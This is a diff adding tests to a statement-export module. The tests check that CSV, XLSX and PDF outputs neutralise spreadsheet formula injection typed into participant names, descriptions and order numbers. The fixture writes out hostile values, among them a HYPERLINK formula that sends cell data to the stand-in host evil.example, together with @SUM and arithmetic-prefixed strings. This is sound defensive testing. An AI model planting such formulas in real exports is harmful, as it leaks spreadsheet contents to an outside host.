@@ -111,3 +111,58 @@ def test_an_empty_statement_still_exports(statement, parties):
 def test_filenames_are_safe_in_a_header(statement):
     statement.number = 'ST "x"/1'
     assert exports.filename(statement, "pdf") == "statement-ST--x--1.pdf"
+
+
+# Hostile text -----------------------------------------------------------------------------------
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture()
+def hostile(statement):
+    """Names, a title, a description and a reference as someone typed them to attack the
+    accountant who opens the file."""
+    statement.lines[0].description = "ctl\u0001name\x00"
+    statement.lines[0].order_number = "+1"
+    statement.lines[1].description = "-2+3"
+    parties = exports.StatementParties(
+        participant=exports.Party(HOSTILE_NAME, "@SUM(A1)"),
+        exchange=exports.Party("\tTAB\rCR"), platform=exports.Party("Marketplace Platform"),
+        dataset_titles={5: "@SUM(A1:A9)"})
+    return statement, parties
+
+
+INERT = {"participant": "'" + HOSTILE_NAME, "registration": "'@SUM(A1)",
+         "exchange": "'\tTAB\ufffdCR", "description": "ctl\ufffdname\ufffd", "order": "'+1",
+         "dataset": "5 @SUM(A1:A9)", "refund": "'-2+3"}
+
+
+def test_the_csv_writes_hostile_text_inert_and_amounts_as_numbers(hostile):
+    statement, parties = hostile
+    rows = list(csv.reader(io.StringIO(
+        exports.statement_csv(statement, parties).decode("utf-8-sig"), newline="")))
+    header = {row[0]: row[1] for row in rows[:9]}
+    assert header["参与方 / Participant"] == INERT["participant"]
+    assert header["统一社会信用代码 / Registration number"] == INERT["registration"]
+    assert header["数据交易所 / Exchange"] == INERT["exchange"]
+    start = next(i for i, row in enumerate(rows) if row and row[0] == "2026-01-03")
+    sale, refund = rows[start], rows[start + 1]
+    assert sale[2:5] == [INERT["order"], INERT["dataset"], INERT["description"]]
+    assert refund[4:] == [INERT["refund"], "", "-10.00"]  # a negative amount, not a text
+
+
+def test_the_xlsx_of_hostile_text_opens_and_reads_back_as_neutral_text(hostile):
+    statement, parties = hostile
+    sheet = load_workbook(io.BytesIO(exports.statement_xlsx(statement, parties))).active
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)}
+    for text in INERT.values():
+        assert cells[text].data_type == "s"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    start = next(row for row in sheet.iter_rows() if row[0].value == "2026-01-09")
+    assert start[6].value == -10 and start[6].data_type == "n"
+
+
+def test_the_pdf_of_hostile_text_is_still_written(hostile):
+    statement, parties = hostile
+    assert exports.statement_pdf(statement, parties).startswith(b"%PDF")
